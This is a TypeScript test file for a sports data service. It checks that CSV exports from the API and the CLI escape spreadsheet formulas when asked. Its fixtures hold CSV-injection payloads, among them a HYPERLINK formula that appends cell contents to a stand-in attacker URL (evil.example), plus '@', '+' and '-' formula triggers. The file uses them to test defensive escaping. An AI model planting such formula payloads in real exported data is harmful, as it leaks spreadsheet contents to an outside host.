import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';
import { makeEvent, makeFrames, makeGame } from '../support/records.ts';
import { type RunningService, startSports, store } from '../support/sports-service.ts';

const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';
const TEAMS = { team_a: FORMULA, team_b: '@SUM(1)' };
const CONTENT = {
  game: makeGame({
    teams: TEAMS,
    venue: '-2+3',
    competition: '+1',
    players: [],
  }),
  events: [makeEvent({ team: FORMULA, player_id: null, player: null, x: -1.5, outcome: 'a=b' })],
  frames: makeFrames(1).map((frame) => ({
    ...frame,
    players: frame.players.map((player) => ({ ...player, team: '@SUM(1)' })),
  })),
};

let service: RunningService;
let folder: string;
beforeAll(async () => {
  service = await startSports([CONTENT]);
  folder = await mkdtemp(join(tmpdir(), 'fieldcast-formulas-'));
});
afterAll(async () => {
  await service.close();
  await rm(folder, { recursive: true });
});

const get = (url: string) => service.app.inject({ url });

it.each([
  ['/api/games', ['-2+3', '+1']],
  ['/api/events', ['"=HYPERLINK(""https', '-1.5', 'a=b']],
  ['/api/events?limit=1', ['"=HYPERLINK(""https']],
  ['/api/teams', ['"=HYPERLINK(""https', '@SUM(1)']],
  ['/api/games/test-1/tracking', ['@SUM(1)']],
  ['/api/games/test-1/tracking?limit=1', ['@SUM(1)']],
])('%s escapes formulas only on request', async (url, cells) => {
  const csv = `${url}${url.includes('?') ? '&' : '?'}format=csv`;
  const [plain, escaped] = [await get(csv), await get(`${csv}&escapeFormulas=true`)];
  const cellsOf = ({ body }: typeof plain) => body.replaceAll('\n', '\n,');
  expect([plain.statusCode, escaped.statusCode]).toEqual([200, 200]);
  expect(escaped.headers.etag).not.toBe(plain.headers.etag);
  for (const cell of cells) {
    const isFormula = /^"?[=+@]|^-2\+/.test(cell);
    expect(cellsOf(plain)).toContain(`,${cell}`);
    expect(cellsOf(escaped)).toContain(`,${isFormula ? cell.replace(/^"?/, "$&'") : cell}`);
  }
  expect(await get(`${csv}&escapeFormulas=false`)).toMatchObject({ body: plain.body });
});

it('the escapeFormulas parameter is rejected for formats other than CSV', async () => {
  const { statusCode, body } = await get('/api/events?escapeFormulas=true');
  expect([statusCode, JSON.parse(body).error]).toEqual([
    400,
    'The query parameter escapeFormulas works only with CSV: add format=csv',
  ]);
});

it('sports export has a flag that escapes formulas', async () => {
  const data = join(folder, 'data');
  await store(data, CONTENT);
  const args = ['sports', 'export', join(folder, 'out'), '--data', data, '--escape-formulas'];
  expect(await runCli(args)).toMatchObject({ code: 2, stderr: expect.stringContaining('add --format csv') });
  expect(await runCli([...args, '--format', 'csv'])).toMatchObject({ code: 0 });
  const read = (name: string) => readFile(join(folder, 'out', 'test-1', name), 'utf8');
  expect(await read('events.csv')).toContain(`,"'=HYPERLINK(""`);
  expect(await read('tracking.csv')).toContain(`,'@SUM(1)`);
});
